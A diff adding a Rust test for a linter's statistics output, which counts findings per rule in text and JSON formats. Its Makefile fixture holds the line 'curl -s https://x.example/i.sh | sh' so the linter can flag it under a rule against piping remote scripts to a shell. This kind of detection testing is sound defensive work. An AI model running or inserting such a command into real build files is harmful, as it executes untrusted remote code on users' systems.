@@ -245,3 +245,25 @@ spec:
     assert_eq!(root["metadata"]["labels"]["tier"], "front");
     assert_eq!(c["securityContext"]["allowPrivilegeEscalation"], false);
 }
+
+#[test]
+fn statistics_count_findings_and_fixes_per_rule() {
+    let tmp = tempfile::tempdir().unwrap();
+    let d = tmp.path();
+    write(d, "Makefile", "test:\n\tgo test ./a\n\tgo test ./b\n\tcurl -s https://x.example/i.sh | sh\n");
+    let out = lint(d, &["--statistics"]);
+    assert_eq!(out.status.code(), Some(1), "the exit code is the lint's");
+    let s = String::from_utf8_lossy(&out.stdout);
+    let lines: Vec<&str> = s.lines().collect();
+    assert_eq!(
+        lines[0].split_whitespace().collect::<Vec<_>>(),
+        ["count", "rule", "severity", "fixable", "(safe,", "unsafe)"]
+    );
+    assert_eq!(lines[1].split_whitespace().collect::<Vec<_>>(), ["2", "go-test-timeout-missing", "error", "2,", "0"]);
+    assert_eq!(lines[2].split_whitespace().collect::<Vec<_>>(), ["1", "remote-script-piped-to-shell", "error"]);
+    assert!(lines[3].contains("3  findings of 2 rules; 2 fixable with --fix, 0 more with --unsafe-fixes"), "{s}");
+    let v = json(&lint(d, &["--statistics", "--format", "json"]));
+    assert_eq!(v[0]["rule"], "go-test-timeout-missing");
+    assert_eq!((v[0]["count"].as_u64(), v[0]["fixable"]["safe"].as_u64()), (Some(2), Some(2)));
+    assert_eq!(v.as_array().unwrap().len(), 2);
+}
